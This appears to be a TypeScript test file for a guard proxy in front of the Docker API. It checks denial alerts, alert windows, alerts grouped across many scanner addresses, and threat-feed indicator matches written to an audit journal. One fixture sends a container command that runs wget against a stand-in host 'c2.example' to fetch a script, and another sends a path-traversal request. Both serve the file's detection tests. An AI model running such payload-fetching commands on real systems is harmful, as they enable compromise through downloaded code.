import t, { type Test } from 'tap';
import { writeFileSync } from 'node:fs';
import { Agent, request } from 'node:http';
import { join } from 'node:path';
import pino from 'pino';
import { loadConfig } from '../../src/config/load.js';
import { verifyTrail } from '../../src/app/audit.js';
import type { TrailEvent } from '../../src/audit/trail.js';
import { trailEvents } from '../support/trail.js';
import { startGuard, TRIAL_ENGINE, type RunningGuard } from '../../src/app/guard.js';
import { until } from '../support/command.js';

// A guard in front of the trial engine, and clients that hammer it over real sockets.

const policy = {
  rules: [
    { id: 'look', sources: ['*'], operations: ['SystemPing', 'ContainerList'], permit: [] },
    // Of calls that no rule could allow nothing is read; this one is looked at, and denied for what it names.
    { id: 'run', sources: ['*'], operations: ['ContainerCreate'], permit: [] },
  ],
};

/** A guard with a journal in this directory; a second one there goes on with it. */
async function guardIn(t: Test, directory: string, alerts: unknown): Promise<RunningGuard> {
  const path = join(directory, 'config.json');
  writeFileSync(join(directory, 'policy.json'), JSON.stringify(policy));
  writeFileSync(join(directory, 'feed.txt'), 'c2.example\n');
  writeFileSync(
    path,
    JSON.stringify({
      listen: [{ name: 'lan', url: 'tcp://127.0.0.1:0' }],
      policy: ['policy.json'],
      admin: null,
      audit: { journal: 'journal', alerts },
      feeds: { state: 'feeds', sources: [{ name: 'c2', url: 'file:feed.txt' }] },
    }),
  );
  const loaded = loadConfig(path, { listen: [], policy: [] });
  if (!loaded.ok) throw new Error(JSON.stringify(loaded.problems));
  const upstream = { ...loaded.config.upstream, url: TRIAL_ENGINE };
  const guard = await startGuard({ config: { ...loaded.config, upstream }, log: pino({ level: 'silent' }) });
  let closed: Promise<void> | undefined;
  const once: RunningGuard = { ...guard, close: (deadline) => (closed ??= guard.close(deadline)) };
  t.teardown(() => once.close(100));
  return once;
}

/** Sends a call so many times from an address of the loopback network; resolves to the status codes. */
async function hammer(
  guard: RunningGuard,
  count: number,
  options: { from?: string; method?: string; path?: string; body?: string } = {},
): Promise<number[]> {
  const { from = '127.0.0.1', method = 'POST', path = '/v1.41/containers/x/kill', body } = options;
  const agent = new Agent({ keepAlive: true, maxSockets: 8 });
  const port = Number(new URL(guard.listeners[0]!.url.replace('tcp:', 'http:')).port);
  const headers = body === undefined ? {} : { 'content-type': 'application/json' };
  const once = (): Promise<number> =>
    new Promise((resolve, reject) => {
      const sent = request(
        { agent, host: '127.0.0.1', port, localAddress: from, method, path, headers },
        (answer) => {
          answer.resume();
          answer.on('end', () => resolve(answer.statusCode ?? 0));
        },
      );
      sent.on('error', reject);
      sent.end(body);
    });
  const statuses = await Promise.all(Array.from({ length: count }, once));
  agent.destroy();
  return statuses;
}

async function trailOf(directory: string): Promise<TrailEvent[]> {
  const events: TrailEvent[] = [];
  for await (const event of trailEvents(join(directory, 'journal')))
    if (event !== undefined) events.push(event);
  return events;
}

const alertsOf = (events: readonly TrailEvent[]): TrailEvent[] =>
  events.filter(({ event }) => event === 'alert');
const denialsOf = (events: readonly TrailEvent[]): number =>
  events.filter(({ verdict }) => verdict === 'deny').length;

await t.test(
  'hundreds of denied calls: one alert at the threshold, one at the end, every decision',
  async (t) => {
    const directory = t.testdir();
    // The window outlasts the hammering on any machine: the second alert comes with the close.
    const guard = await guardIn(t, directory, {});
    const statuses = await hammer(guard, 400);
    t.same(new Set(statuses), new Set([403]));
    t.equal(
      (await hammer(guard, 50, { method: 'GET', path: '/_ping' })).filter((one) => one === 200).length,
      50,
    );
    t.ok(
      await until(async () => alertsOf(await trailOf(directory)).length > 0, 5_000, 20),
      'while it goes on',
    );
    await guard.close(1_000);
    const events = await trailOf(directory);
    t.equal(denialsOf(events), 400);
    const alerts = alertsOf(events);
    t.equal(alerts.length, 2);
    t.match(alerts[0], {
      kind: 'denied',
      action: 'blocked',
      client: { listener: 'lan', address: '127.0.0.1' },
      operation: 'ContainerKill',
      count: 10,
      window: 300_000,
    });
    t.match(alerts[1], { kind: 'denied', count: 400, operation: 'ContainerKill' });
    t.equal((await verifyTrail(join(directory, 'journal'), {})).problem, undefined);

    const again = await guardIn(t, directory, {});
    await hammer(again, 9);
    await again.close(1_000);
    const later = await trailOf(directory);
    t.equal(denialsOf(later), 409);
    t.equal(alertsOf(later).length, 2, 'after a restart it counts anew: nine denials are none');
    t.equal((await verifyTrail(join(directory, 'journal'), {})).problem, undefined);
  },
);

await t.test('the end of a window tells the rest by itself', async (t) => {
  const directory = t.testdir();
  const guard = await guardIn(t, directory, { window: '2s', threshold: 20 });
  await hammer(guard, 200);
  t.ok(
    (await until(
      async () => alertsOf(await trailOf(directory)).some(({ count }) => count === 200),
      15_000,
      50,
    )) ||
      // A slow machine spreads the calls over two windows: together they are all.
      alertsOf(await trailOf(directory)).length > 1,
  );
  t.equal(denialsOf(await trailOf(directory)), 200);
});

await t.test('one scanner with many addresses: nine alerts at most, then one for all', async (t) => {
  const directory = t.testdir();
  const guard = await guardIn(t, directory, { threshold: 3 });
  for (let n = 1; n <= 40; n++) await hammer(guard, 5, { from: `127.0.1.${n}` });
  await guard.close(1_000);
  const events = await trailOf(directory);
  t.equal(denialsOf(events), 200);
  const alerts = alertsOf(events);
  t.ok(alerts.length <= 20, `${alerts.length} alerts of 40 addresses`);
  t.match(alerts.at(-1), { kind: 'denied', addresses: 40, count: 200, client: undefined });
});

await t.test('a listed host in a call is an alert at once; input that is no call has its own', async (t) => {
  const directory = t.testdir();
  const guard = await guardIn(t, directory, {});
  const body = JSON.stringify({ Image: 'alpine', Cmd: ['wget', 'http://c2.example/x.sh'] });
  await hammer(guard, 1, { path: '/v1.41/containers/create', body });
  await hammer(guard, 12, { method: 'GET', path: '/v1.41/a/../b' });
  await guard.close(1_000);
  const [first, second, ...more] = alertsOf(await trailOf(directory));
  t.match(first, {
    kind: 'indicator',
    count: 1,
    operation: 'ContainerCreate',
    indicators: [{ indicator: 'c2.example', feed: 'c2' }],
  });
  t.match(second, { kind: 'unreadable', count: 10, operation: '' });
  t.match(more, [{ kind: 'unreadable', count: 12 }]);
});

await t.test('switched off', async (t) => {
  for (const alerts of [false, null]) {
    const directory = t.testdir();
    const guard = await guardIn(t, directory, alerts);
    await hammer(guard, 30);
    await guard.close(1_000);
    t.equal(alertsOf(await trailOf(directory)).length, 0);
  }
});
